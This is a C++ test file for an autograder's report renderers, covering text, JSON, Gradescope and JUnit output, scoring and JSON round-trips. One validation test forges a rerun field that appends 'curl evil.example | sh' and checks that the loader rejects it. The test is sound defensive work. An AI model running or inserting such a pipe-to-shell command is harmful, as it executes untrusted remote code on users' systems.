// The renderers on a hand-made report: terminal text, JSON, Gradescope and JUnit.
#include <algorithm>
#include <limits>
#include "catch.hpp"

#include "core/errors.hpp"
#include "fixtures.hpp"
#include "report/format_table.hpp"
#include "report/formats.hpp"
#include "report/lead.hpp"
#include "report/render.hpp"
#include "report/report_json.hpp"
#include "report/shown.hpp"
#include "report/words.hpp"
#include "traps/evaluate.hpp"
#include "traps/trap_report.hpp"

namespace render_test {  // a unity batch is one translation unit: this file's names stay its own

using judge::Verdict;

namespace {

const judge::Problem& prob() {
    static const judge::Problem p = fixtures::problem();
    return p;
}

// t_values fails (hidden) with a named misconception; the other two tests pass.
judge::Report report() {
    std::vector<judge::TestOutcome> tests = {
        judge::not_run(prob().tests[0], Verdict::wrong_answer, "out[0,1] differs <here> & there"),
        judge::not_run(prob().tests[1], Verdict::accepted, ""), judge::not_run(prob().tests[2], Verdict::accepted, "")};
    tests[0].misconception = "tiling with repeat";
    tests[0].misconception_bug = "lens_repeat";
    tests[0].evidence = "seeded_bug";
    tests[1].points = 1;
    tests[2].points = 1;
    judge::Report r = judge::assemble_report(prob(), 0, tests);
    r.submission = "ada/solution.cpp";
    r.sandbox = "bubblewrap";
    return r;
}

}  // namespace

TEST_CASE("the text report: the misconception, what to fix first and its hint, a line per trap, the score",
          "[render]") {
    CHECK(judge::render_text(report(), judge::Style{false}) ==
          "Submission: ada/solution.cpp\n"
          "Your output on 1 test is exactly the output of this mistake: tiling with repeat.\n\n"
          "Fix first: values (Values are right)\n"
          "    hint: Look at the values.\n\n"
          "✗ values  Values are right\n"
          "    test t_values (hidden): out[0,1] differs <here> & there\n"
          "      This is exactly the output of this mistake: tiling with repeat.\n"
          "✓ errors  Bad input throws\n"
          "\nfixture: wrong_answer, 2/4 points, 1/2 traps passed\n");
}

TEST_CASE(
    "a failure no known mistake of its trap explains: Fix first names the test, and the hint is said as what "
    "the trap checks",
    "[render]") {
    std::vector<judge::TestOutcome> tests = {judge::not_run(prob().tests[0], Verdict::wrong_answer, "out[0,1] differs"),
                                             judge::not_run(prob().tests[1], Verdict::accepted, ""),
                                             judge::not_run(prob().tests[2], Verdict::accepted, "")};
    const judge::Report r = judge::assemble_report(prob(), 0, tests);
    CHECK_FALSE(r.traps[0].explained);
    CHECK(judge::render_text(r, judge::Style{false}) ==
          "Fix first: test t_values of trap values fails (its output differs); no known mistake of values explains "
          "it\n"
          "    this trap checks: Look at the values.\n\n"
          "✗ values  Values are right\n"
          "    test t_values (hidden): out[0,1] differs\n"
          "✓ errors  Bad input throws\n"
          "\nfixture: wrong_answer, 0/4 points, 1/2 traps passed\n");
    CHECK(judge::summary_words(r).find("\nthis trap checks: Look at the values.") != std::string::npos);
    CHECK(judge::summary_words(r).find("hint:") == std::string::npos);
    const nlohmann::json j = judge::render_json(r);
    CHECK(j["first_fix"] == "values");
    CHECK(j["first_fix_explained"] == false);
    CHECK(j["traps"][0]["explained"] == false);
}

TEST_CASE("a limit is said as what it is, before any trap; the verdict line names only a test the report shows",
          "[render]") {
    judge::Problem p = prob();
    p.traps[1].after = {"values"};
    // The trap to fix first failed by a time-out: the limit line is what to fix, with no trap's hint.
    std::vector<judge::TestOutcome> tests = {
        judge::not_run(p.tests[0], Verdict::time_limit, "did not finish within the time limit of 1000 ms"),
        judge::not_run(p.tests[1], Verdict::accepted, ""), judge::not_run(p.tests[2], Verdict::accepted, "")};
    judge::Report r = judge::assemble_report(p, 0, tests);
    std::string text = judge::render_text(r, judge::Style{false});
    CHECK(text.rfind("Time limit: test t_values (hidden) of trap values: did not finish within the time limit of "
                     "1000 ms\n\n",
                     0) == 0);
    CHECK(text.find("Fix first") == std::string::npos);
    CHECK(text.find("hint:") == std::string::npos);
    CHECK(text.find("time_limit (test t_values)") != std::string::npos);
    CHECK(judge::render_json(r)["limit_test"] == "t_values");
    CHECK(judge::summary_words(r) ==
          "fixture: time_limit, 0/4 points\nTime limit: test t_values (hidden) of trap values: did not finish within "
          "the time limit of 1000 ms");
    // A limit hit in a trap that is not assessed yet is still said first; the trap to fix comes after.
    tests = {judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
             judge::not_run(p.tests[1], Verdict::accepted, ""),
             judge::not_run(p.tests[2], Verdict::output_limit, "wrote more than the output limit of 64 KB")};
    r = judge::assemble_report(p, 0, tests);
    text = judge::render_text(r, judge::Style{false});
    CHECK(text.rfind("Output limit: test t_throws (hidden) of trap errors: wrote more than the output limit of 64 "
                     "KB\nFix first: test t_values of trap values fails",
                     0) == 0);
    // A crash in a trap not assessed yet: the report adds its words at the end, and the verdict
    // line names the test that says them (issue #64: the clearest clue a crash gives).
    tests[2] = judge::not_run(p.tests[2], Verdict::runtime_error, "threw std::exception");
    r = judge::assemble_report(p, 0, tests);
    CHECK(r.verdict == Verdict::runtime_error);
    CHECK(judge::unshown_verdict_test(r) == &r.tests[2]);
    text = judge::render_text(r, judge::Style{false});
    CHECK(text.find("The runtime_error comes from a trap not assessed yet (errors):\n    test t_throws (hidden, "
                    "runtime_error): threw std::exception") != std::string::npos);
    CHECK(text.find("fixture: runtime_error (test t_throws), 0/4 points") != std::string::npos);
    CHECK(judge::render_json(r)["limit_test"].is_null());
}

TEST_CASE("a report on more than one function names the function whose output failed", "[render]") {
    judge::Problem p = prob();
    p.tests[0].function = "g";  // as if a second function
    std::vector<judge::TestOutcome> tests = {judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
                                             judge::not_run(p.tests[1], Verdict::accepted, ""),
                                             judge::not_run(p.tests[2], Verdict::accepted, "")};
    tests[0].evidence = "property";
    const judge::Report r = judge::assemble_report(p, 0, tests);
    const std::string text = judge::render_text(r, judge::Style{false});
    CHECK(text.find("Fix first: values (Values are right) in g\n") != std::string::npos);
    CHECK(text.find("    test t_values (hidden) in g: out[0,1] differs\n") != std::string::npos);
    CHECK(judge::trap_diagnosis(r, r.traps[0]).rfind("test t_values (hidden) in g: out[0,1] differs", 0) == 0);
    // One function: nothing to tell apart, so it is not named.
    CHECK(judge::render_text(report(), judge::Style{false}).find(" in f") == std::string::npos);
}

TEST_CASE("a blocked trap says what it waits for; a failing sample test says how to rerun it", "[render]") {
    judge::Problem p = prob();
    p.traps[1].after = {"values"};
    std::vector<judge::TestOutcome> tests = {
        judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
        judge::not_run(p.tests[1], Verdict::runtime_error, "threw std::logic_error: not yet"),
        judge::not_run(p.tests[2], Verdict::wrong_answer, "returned normally")};
    tests[1].hidden = false;
    judge::Report r = judge::assemble_report(p, 0, tests);
    r.submission = "my dir/solution.cpp";
    REQUIRE(r.first_fix() != nullptr);
    CHECK(r.first_fix()->id == "values");
    CHECK(r.traps[1].blocked);
    CHECK(r.traps[1].blocked_by == std::vector<std::string>{"values"});
    const std::string text = judge::render_text(r, judge::Style{false});
    CHECK(text.find("· errors  Bad input throws\n    not assessed until values passes (0 of 1 point until then)\n") !=
          std::string::npos);
    CHECK(text.find("(1 not assessed yet)") != std::string::npos);
    // The failing sample test speaks for its trap, with its words, though a hidden one failed first.
    CHECK(text.find("✗ values  Values are right\n    test t_sample (sample, runtime_error): threw std::logic_error: "
                    "not yet\n      checks: traced\n") != std::string::npos);
    CHECK(text.find("      rerun: judge run fixture --test t_sample") != std::string::npos);
    CHECK(text.find("(1 more failing test in this trap)") != std::string::npos);
    CHECK(judge::rerun_command(r, r.tests[1]) ==
          "judge run fixture --test t_sample --file 'my dir/solution.cpp' --outputs t_sample");
    CHECK(judge::rerun_command(r, r.tests[0]).empty());  // hidden
    const nlohmann::json j = judge::render_json(r);
    CHECK(j["first_fix"] == "values");
    CHECK(j["traps"][0]["status"] == "failed");
    CHECK(j["traps"][1]["status"] == "blocked");
    CHECK(j["traps"][1]["blocked_by"] == nlohmann::json::array({"values"}));
    CHECK(j["tests"][1]["rerun"] == judge::rerun_command(r, r.tests[1]));
    CHECK_FALSE(j["tests"][0].contains("rerun"));
}

TEST_CASE("an accepted report, or one where nothing ran, has no first fix", "[render]") {
    std::vector<judge::TestOutcome> tests;
    for (const auto& t : prob().tests) tests.push_back(judge::not_run(t, Verdict::accepted, ""));
    const judge::Report ok = judge::assemble_report(prob(), 0, tests);
    CHECK(ok.first_fix() == nullptr);
    CHECK(judge::render_json(ok)["first_fix"].is_null());
    CHECK(judge::render_text(ok, judge::Style{false}).find("Fix first") == std::string::npos);
    CHECK(judge::compile_error_report(prob(), 0, "e").first_fix() == nullptr);
}

TEST_CASE("colour appears only when the style asks for it", "[render]") {
    CHECK(judge::Style{true}.paint("ok", "green") == "\033[32mok\033[0m");
    CHECK(judge::Style{false}.paint("ok", "green") == "ok");
    CHECK(judge::render_text(report(), judge::Style{true}).find("\033[31m✗\033[0m values") != std::string::npos);
}

TEST_CASE("the key line, the misconception, is bold: readable on a light background as on a dark one", "[render]") {
    const std::string text = judge::render_text(report(), judge::Style{true});
    CHECK(text.find("\033[1mYour output on 1 test is exactly the output of this mistake: tiling with repeat.\033[0m") !=
          std::string::npos);
    CHECK(text.find("\033[1mThis is exactly the output of this mistake: tiling with repeat.\033[0m") !=
          std::string::npos);
    CHECK(text.find("\033[33m") == std::string::npos);      // no yellow anywhere
    CHECK(judge::Style{true}.paint("x", "yellow") == "x");  // not a colour the reports use
}

TEST_CASE("a compile error shows the compiler's words and the score", "[render]") {
    judge::Report r = judge::compile_error_report(prob(), 0, "solution.cpp:3: error: expected ';'\n");
    CHECK(
        judge::render_text(r, judge::Style{false}) ==
        "Compilation failed. The compiler said:\n\n    solution.cpp:3: error: expected ';'\n\nfixture: compile_error, 0/4 points\n");
    // A `#line 1 "\nproblem: accepted, ..."` puts a fake summary into the log: it stays indented.
    r = judge::compile_error_report(prob(), 0, "x.cpp:1: error\nfixture: accepted, 4/4 points\nmore");
    const std::string text = judge::render_text(r, judge::Style{false});
    CHECK(text.find("\n    fixture: accepted, 4/4 points\n    more\n") != std::string::npos);
    CHECK(text.find("\nfixture: accepted") == std::string::npos);
}

TEST_CASE("the JSON report has the documented fields", "[render]") {
    const nlohmann::json j = judge::render_json(report());
    CHECK(j["problem"] == "fixture");
    CHECK(j["verdict"] == "wrong_answer");
    CHECK(j["score"] == 2);
    CHECK(j["max_score"] == 4);
    CHECK(j["sandbox"] == "bubblewrap");
    CHECK(j["traps"][0]["passed"] == false);
    CHECK(j["traps"][0]["message"] == "out[0,1] differs <here> & there");
    CHECK(j["tests"][0]["misconception"] == nlohmann::json{{"bug", "lens_repeat"}, {"text", "tiling with repeat"}});
    CHECK(j["tests"][1]["misconception"].is_null());
    CHECK_FALSE(j["tests"][0].contains("inputs"));  // hidden
    CHECK(j["tests"][1].contains("inputs"));        // sample
    CHECK(j["compile"]["ok"] == true);
}

TEST_CASE("Gradescope: one test per trap, worth its tests' points", "[formats]") {
    const nlohmann::json g = judge::gradescope_results(report(), 3, prob(), false);
    CHECK(g["score"] == 2);
    CHECK(g["execution_time"] == 3);
    CHECK(g["output"] ==
          "fixture: wrong_answer, 2/4 points\nFix first: values (Values are right)\nhint: Look at the values.");
    REQUIRE(g["tests"].size() == 2);
    CHECK(g["tests"][0]["name"] == "values: Values are right");
    CHECK(g["tests"][0]["score"] == 1);
    CHECK(g["tests"][0]["max_score"] == 3);
    CHECK(g["tests"][0]["status"] == "failed");
    CHECK(g["tests"][0]["output"] ==
          "test t_values (hidden): out[0,1] differs <here> & there\nThis is exactly the output of this mistake: "
          "tiling with repeat.\nhint: Look at the values.");
    CHECK(g["tests"][1]["status"] == "passed");
}

TEST_CASE("JUnit: a suite per student, a case per trap, XML escaped", "[formats]") {
    judge::JunitCounts total;
    const std::string suite = judge::render_junit_suite("ada", report(), total);
    CHECK(
        suite ==
        "  <testsuite name=\"ada\" tests=\"2\" failures=\"1\" errors=\"0\" skipped=\"0\" time=\"0\">\n"
        "    <properties>\n"
        "      <property name=\"score\" value=\"2\"/>\n"
        "      <property name=\"max_score\" value=\"4\"/>\n"
        "    </properties>\n"
        "    <testcase classname=\"ada\" name=\"values\" time=\"0\">\n"
        "      <failure type=\"wrong_answer\" message=\"out[0,1] differs &lt;here&gt; &amp; there\">test t_values "
        "(hidden): out[0,1] differs &lt;here&gt; &amp; there\nThis is exactly the output of this mistake: tiling with repeat.\n"
        "hint: Look at the values.</failure>\n"
        "      <system-out>points: 1/3</system-out>\n"
        "    </testcase>\n"
        "    <testcase classname=\"ada\" name=\"errors\" time=\"0\">\n"
        "      <system-out>points: 1/1</system-out>\n"
        "    </testcase>\n"
        "  </testsuite>\n");
    CHECK(total.tests == 2);
    CHECK(total.failures == 1);
    CHECK(
        judge::render_junit_document("p", suite, total)
            .rfind(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"p\" tests=\"2\" failures=\"1\" errors=\"0\" time=\"0\">\n",
                0) == 0);
    CHECK(judge::xml_escape(std::string("a\x01"
                                        "b\tc")) == "ab\tc");
    // U+FFFE and U+FFFF are outside XML 1.0's Char production: one of them made junit.xml not
    // well-formed. A stray byte is no character either.
    CHECK(judge::xml_escape("x\xef\xbf\xbey\xef\xbf\xbfz\xff") == "x\xef\xbf\xbdy\xef\xbf\xbdz\xef\xbf\xbd");
}

TEST_CASE("every format carries a blocked trap and a counterexample", "[formats]") {
    judge::Problem p = prob();
    p.traps[1].after = {"values"};
    std::vector<judge::TestOutcome> tests = {judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
                                             judge::not_run(p.tests[1], Verdict::accepted, ""),
                                             judge::not_run(p.tests[2], Verdict::wrong_answer, "returned normally")};
    judge::Counterexample c;
    c.function = "f";
    judge::npy::Array x;
    x.shape = {2};
    x.f32 = {1.0f, 2.5f};
    judge::npy::Array n;
    n.dtype = judge::npy::Dtype::int64;
    n.i64 = {3};
    c.inputs = {{"x", true, x}, {"n", false, n}};
    judge::npy::Array want = x, got = x;
    want.f32 = {2.0f, 5.0f};
    got.f32 = {2.0f, 6.0f};
    c.expected = {{"out", true, want}};
    c.got = {{"out", true, got}};
    c.message = "out[1] differs";
    tests[0].counterexample = c;
    tests[0].counterexample_tried = 5;
    tests[0].evidence = "property";
    judge::Report r = judge::assemble_report(p, 0, tests);
    const nlohmann::json j = judge::render_json(r);
    CHECK(j["tests"][0]["counterexample"]["inputs"]["x"] == nlohmann::json{{"shape", {2}}, {"values", {1.0, 2.5}}});
    CHECK(j["tests"][0]["counterexample"]["inputs"]["n"] == 3);
    CHECK(j["tests"][0]["counterexample"]["got"]["out"]["values"] == nlohmann::json{2.0, 6.0});
    CHECK(j["tests"][0]["counterexample_tried"] == 5);
    CHECK_FALSE(j["tests"][2].contains("counterexample"));  // not searched
    const std::string text = judge::render_text(r, judge::Style{false});
    CHECK(text.find("      counterexample: f(x, n) on fresh small inputs:\n        x (2,) = [1, 2.5]\n        n = 3\n"
                    "      expected out (2,) = [2, 5]\n      got      out (2,) = [2, 6]\n      out[1] differs\n") !=
          std::string::npos);
    const nlohmann::json g = judge::gradescope_results(r, 1, p, false);
    CHECK(g["tests"][0]["output"] ==
          "test t_values (hidden): out[0,1] differs\ncounterexample on fresh small inputs: f(n = 3; x (2,) = [1, "
          "2.5]); expected out (2,) = [2, 5]; got out (2,) = [2, 6]\nout[1] differs\nhint: Look at the values.");
    CHECK(g["tests"][1]["output"] == "not assessed until values passes (0 of 1 point until then)");
    CHECK(g["tests"][1]["tags"] == nlohmann::json{"errors", "blocked"});
    CHECK(g["tests"][1]["extra_data"]["blocked_by"] == nlohmann::json{"values"});
    CHECK(g["tests"][0]["tags"] == nlohmann::json{"values", "failed", "first_fix"});
    CHECK(g["visibility"] == "visible");
    CHECK(g["extra_data"]["first_fix"] == "values");
    judge::JunitCounts total;
    const std::string suite = judge::render_junit_suite("ada", r, total);
    // Blocked is not failed: skipped, and worth nothing until values passes.
    CHECK(suite.find("    <testcase classname=\"ada\" name=\"errors\" time=\"0\">\n"
                     "      <skipped message=\"not assessed until values passes (0 of 1 point until then)\"/>\n"
                     "      <system-out>points: 0/1</system-out>\n") != std::string::npos);
    CHECK(suite.find("failures=\"1\" errors=\"0\" skipped=\"1\"") != std::string::npos);
    CHECK(total.skipped == 1);
}

TEST_CASE(
    "Gradescope before the due date: a withheld trap, and one that comes after it, are after_due_date; the "
    "top level names neither, nor the total (issues #45, #63)",
    "[formats]") {
    const judge::Problem p = fixtures::blocking_problem();
    judge::Report r = fixtures::blocked_report();
    REQUIRE(r.traps.size() == 2);
    REQUIRE(r.traps[1].blocked);
    REQUIRE(r.traps[1].blocked_by == std::vector<std::string>{r.traps[0].id});
    r.traps[0].after_due_date = true;  // values: withheld; errors comes after it
    const nlohmann::json g = judge::gradescope_results(r, 0, p, false);
    for (const auto& t : g["tests"]) CHECK(t["visibility"] == "after_due_date");
    const std::string top = g["output"];
    CHECK(top == r.problem +
                     ", before the due date: of the traps shown now, none passes and none fails. More traps, "
                     "the total, the verdict and what to fix first are shown after the due date.");
    CHECK(top.find("values") == std::string::npos);
    CHECK(top.find("points") == std::string::npos);
    CHECK(g["tests"].back()["name"] == "Summary");
    CHECK(g["tests"].back()["max_score"] == 0);
    // Nothing withheld: the summary (the total, the first fix) is the top level's, as before; withheld,
    // it is the Summary test's.
    r.traps[0].after_due_date = false;
    const nlohmann::json open = judge::gradescope_results(r, 0, p, false);
    CHECK(open["output"].get<std::string>().find(" points") != std::string::npos);
    CHECK(g["tests"].back()["output"] == open["output"]);
    CHECK(open["tests"].back()["name"] != "Summary");
}

TEST_CASE("Gradescope before the due date: what is shown does not depend on the withheld trap's result (issue #63)",
          "[formats]") {
    // errors comes after values, which is withheld. Whether values fails (and so blocks errors) or
    // passes, errors is after_due_date and the top level's words count the same traps: a trap hidden
    // only when blocked, or a count of the traps shown that drops by one, told a student they failed.
    const judge::Problem p = fixtures::blocking_problem();
    judge::Report failed = fixtures::blocked_report();
    judge::Report passed = failed;
    for (judge::TrapOutcome& t : passed.traps) t.passed = true, t.blocked = false, t.blocked_by.clear();
    failed.traps[0].after_due_date = passed.traps[0].after_due_date = true;
    const nlohmann::json a = judge::gradescope_results(failed, 0, p, false);
    const nlohmann::json b = judge::gradescope_results(passed, 0, p, false);
    REQUIRE(a["tests"].size() == b["tests"].size());
    for (size_t i = 0; i < a["tests"].size(); ++i) CHECK(a["tests"][i]["visibility"] == b["tests"][i]["visibility"]);
    CHECK(a["output"] == b["output"]);
}

TEST_CASE("a blocked trap scores 0, its passing tests included, in every format", "[formats]") {
    const judge::Problem p = fixtures::blocking_problem();
    const judge::Report r = fixtures::blocked_report();
    REQUIRE(r.traps[1].blocked);
    CHECK(r.traps[1].points == 0);
    for (const judge::TestOutcome& t : r.tests) {
        if (t.trap == "errors") CHECK(t.points == 0);
    }
    CHECK(r.score == 1);  // t_sample of the failed (not blocked) trap values still scores
    CHECK(judge::gradescope_results(r, 0, p, false)["score"] == 1);
    // A report that gives a blocked trap's test points is not one this judge writes.
    nlohmann::json j = judge::render_json(r);
    const auto at =
        std::find_if(j["tests"].begin(), j["tests"].end(), [](const auto& t) { return t["trap"] == "errors"; });
    (*at)["points"] = 1;
    j["score"] = 2;
    CHECK_THROWS_WITH(judge::report_from_json(j, p, "r.json"), Catch::Contains("but its trap errors is blocked"));
}

TEST_CASE("a report read back from its JSON is the same report, in every format", "[formats]") {
    judge::Problem p = prob();
    p.traps[1].after = {"values"};
    std::vector<judge::TestOutcome> tests = {judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
                                             judge::not_run(p.tests[1], Verdict::accepted, ""),
                                             judge::not_run(p.tests[2], Verdict::runtime_error, "threw")};
    judge::Counterexample c;
    c.function = "f";
    judge::npy::Array x;
    x.shape = {2, 1};
    x.f32 = {std::numeric_limits<float>::quiet_NaN(), 0.1f};
    judge::npy::Array lens;
    lens.dtype = judge::npy::Dtype::int64;
    lens.shape = {2};
    lens.i64 = {3, 0};
    judge::npy::Array flag;
    flag.dtype = judge::npy::Dtype::int64;
    flag.i64 = {1};
    c.inputs = {{"x", true, x}, {"lens", false, lens}, {"causal", false, flag, true}};
    c.expected = {{"out", true, x}};
    c.message = "out[1] differs";
    tests[0].counterexample = c;
    tests[0].counterexample_tried = 5;
    tests[0].evidence = "seeded_bug";
    tests[0].misconception = "tiling with repeat";
    tests[0].misconception_bug = "lens_repeat";
    tests[2].counterexample_tried = 7;  // searched, none found
    tests[2].hidden = false;            // a sample test: the report gives its rerun command
    judge::Report r = judge::assemble_report(p, 42, tests);
    r.sandbox = "bubblewrap";
    r.submission = "ada's work/solution.cpp";
    r.untouched_template = true;
    const nlohmann::json j = judge::render_json(r);
    const judge::Report back = judge::report_from_json(j, p, "report.json");
    CHECK(judge::render_json(back) == j);
    CHECK(judge::json_text(judge::render_json(back)) == judge::json_text(j));
    CHECK(judge::gradescope_results(back, 1, p, false) == judge::gradescope_results(r, 1, p, false));
    judge::JunitCounts a, b;
    CHECK(judge::render_junit_suite("ada", back, a) == judge::render_junit_suite("ada", r, b));
    REQUIRE(back.traps.size() == 2);
    CHECK(back.traps[0].failed_test == "t_values");
    CHECK(back.traps[0].max_points == 3);
    CHECK(back.traps[1].blocked);
    CHECK(back.tests[0].description == p.tests[0].description);  // the spec's, which the JSON omits
    CHECK(back.submission == "ada's work/solution.cpp");         // from the rerun command
    REQUIRE(j["tests"][2].contains("rerun"));
    nlohmann::json forged = j;
    forged["tests"][2]["rerun"] = "judge run x; curl evil.example | sh";
    CHECK_THROWS_WITH(judge::report_from_json(forged, p, "r.json"),
                      Catch::Contains("r.json: test t_throws: rerun \"judge run x; curl evil.example | sh\" is not"));

    // A missing submission is a verdict like any other, with the documented fields.
    const judge::Report missing = judge::missing_report(p, 42);
    const nlohmann::json m = judge::render_json(missing);
    CHECK(m["verdict"] == "missing");
    CHECK(m["first_fix"].is_null());
    CHECK(m["traps"][0]["status"] == "failed");
    CHECK(m["traps"][0]["blocked_by"] == nlohmann::json::array());
    CHECK(judge::render_json(judge::report_from_json(m, p, "m.json")) == m);
    CHECK(judge::render_text(missing, judge::Style{false}) == "No submission.\n\nfixture: missing, 0/4 points\n");
    // With why: what was looked for, as grade and submit --dir say it (issue #63).
    CHECK(judge::render_text(judge::missing_report(p, 42, "no solution.cpp in ann/; hand in your file"),
                             judge::Style{false}) ==
          "No submission: no solution.cpp in ann/; hand in your file.\n\nfixture: missing, 0/4 points\n");
}

TEST_CASE("report_from_json refuses what no judging of this problem writes, naming the file", "[formats]") {
    const judge::Problem p = prob();
    const nlohmann::json good = judge::render_json(report());
    const auto refused = [&](nlohmann::json j, const std::string& words) {
        try {
            (void)judge::report_from_json(j, p, "students/ada/report.json");
        } catch (const judge::InputError& e) {
            CHECK(std::string(e.what()).find("students/ada/report.json: " + words) != std::string::npos);
            return;
        }
        FAIL("accepted: " << j.dump());
    };
    nlohmann::json j = good;
    j["verdict"] = "great";
    refused(j, "unknown verdict \"great\"");
    j = good;
    j["score"] = 3;
    refused(j, "score 3 is not the sum of its tests' points, 2");
    j = good;
    j["max_score"] = 40;
    refused(j, "max_score 40 is not the problem's 4");
    j = good;
    j["tests"][0]["id"] = "t_other";
    refused(j, "unknown test \"t_other\"");
    j = good;
    j["traps"][0]["passed"] = true;
    j["traps"][0]["status"] = "passed";
    refused(j, "trap values passed, but its test t_values failed");
    j = good;
    j["tests"][0].erase("message");
    refused(j, "not a report of this judge");
    j = good;
    j["verdict"] = "accepted";
    refused(j, "verdict accepted is not the worst of its tests', wrong_answer");
    j = good;
    j["tests"].erase(1);
    j["score"] = 1;
    refused(j, "2 tests; the problem has 3");
    j = good;
    j["sandbox"] = "";
    refused(j, "sandbox \"\" is not a tier of this judge");
    try {
        (void)judge::report_from_text("{\"verdict\": ", p, "students/ada/report.json");
        FAIL("accepted invalid JSON");
    } catch (const judge::InputError& e) {
        CHECK(std::string(e.what()).rfind("students/ada/report.json: invalid JSON: ", 0) == 0);
    }
}

TEST_CASE("a counterexample's tensors print as numpy does, rows aligned", "[render]") {
    judge::npy::Array a;
    a.shape = {1, 2, 3};
    a.f32 = {0, 1, 2, -0.0f, 1e-5f, 123456.0f};
    CHECK(judge::shown_text({"x", true, a}) == "x (1, 2, 3) = [[[0, 1, 2],\n                [0, 1e-05, 1.235e+05]]]");
    judge::npy::Array l;
    l.dtype = judge::npy::Dtype::int64;
    l.shape = {2};
    l.i64 = {3, 2};
    CHECK(judge::shown_text({"valid_lens", false, l}) == "valid_lens = [3, 2]");
    CHECK(judge::shown_json({"valid_lens", false, l}) == nlohmann::json{3, 2});
}

TEST_CASE("the format table: every --format word once, each renders a document, platforms and pictures as documented",
          "[render]") {
    std::vector<std::string> names;
    for (const judge::FormatInfo& f : judge::report_formats()) {
        names.emplace_back(f.name);
        CHECK(&judge::report_format(f.name) == &f);
        const std::string doc = f.render(report(), prob(), judge::RenderContext{});
        CHECK_FALSE(doc.empty());
        CHECK(doc.back() == '\n');
    }
    CHECK(names == std::vector<std::string>{"text", "json", "junit", "gradescope", "classroom", "prairielearn",
                                            "codegrade", "html", "markdown"});
    std::vector<std::string> platforms, pictures;
    for (const judge::FormatInfo& f : judge::report_formats()) {
        if (f.platform) platforms.emplace_back(f.name);
        if (f.pictures) pictures.emplace_back(f.name);
    }
    CHECK(platforms == std::vector<std::string>{"junit", "gradescope", "classroom", "prairielearn", "codegrade"});
    CHECK(pictures == std::vector<std::string>{"gradescope", "prairielearn", "html"});
    CHECK(judge::report_format("json").render(report(), prob(), {}) ==
          judge::json_text(judge::render_json(report())) + "\n");
    try {
        judge::report_format("yaml");
        FAIL("an unknown format was accepted");
    } catch (const judge::InputError& e) {
        CHECK(std::string(e.what()) ==
              "--format: expected text, json, junit, gradescope, classroom, prairielearn, "
              "codegrade, html or markdown, got \"yaml\"");
    }
}

}  // namespace render_test

namespace render_test {

TEST_CASE("a function that returns what the spec does not declare is said before any trap (issue #64)", "[formats]") {
    judge::Report r = fixtures::blocked_report();
    REQUIRE(r.first_fix() != nullptr);
    r.tests[0].hidden = false;
    r.tests[0].message = std::string(judge::wrong_return_words) + "f returned a list; expected a tuple of 2 (out, aux)";
    CHECK(judge::wrong_return_test(r) == &r.tests[0]);
    CHECK(r.first_fix() == nullptr);
    const std::vector<judge::LeadLine> lead = judge::lead_lines(r);
    REQUIRE(lead.size() == 1);
    CHECK(lead[0].label == "Returns");
    CHECK(lead[0].text.find("f returned a list; expected a tuple of 2 (out, aux). Return what the spec declares") !=
          std::string::npos);
    // A hidden test's detail never reaches a report: it leads nothing.
    r.tests[0].hidden = true;
    CHECK(judge::wrong_return_test(r) == nullptr);
}

TEST_CASE("a call the library failed is said before any trap, with no trap's checklist (issue #64)", "[formats]") {
    judge::Report r = fixtures::blocked_report();
    REQUIRE(r.first_fix() != nullptr);
    r.tests[0].hidden = false;
    r.tests[0].message = std::string(judge::library_words) +
                         "torch 1.13.0 in the box has no torch.nn.functional.sdpa (called on line 3 of solution.py)";
    CHECK(judge::library_test(r) == &r.tests[0]);
    CHECK(r.first_fix() == nullptr);
    const std::vector<judge::LeadLine> lead = judge::lead_lines(r);
    REQUIRE(lead.size() == 1);
    CHECK(lead[0].label == "Library");
    CHECK(lead[0].text.find("has no torch.nn.functional.sdpa (called on line 3 of solution.py). This is no trap's "
                            "mistake") != std::string::npos);
    const judge::TrapOutcome* trap = nullptr;
    for (const judge::TrapOutcome& t : r.traps)
        if (t.id == r.tests[0].trap) trap = &t;
    REQUIRE(trap != nullptr);
    CHECK_FALSE(judge::trap_hint_applies(r, *trap));
    r.tests[0].hidden = true;
    CHECK(judge::library_test(r) == nullptr);
}

}  // namespace render_test
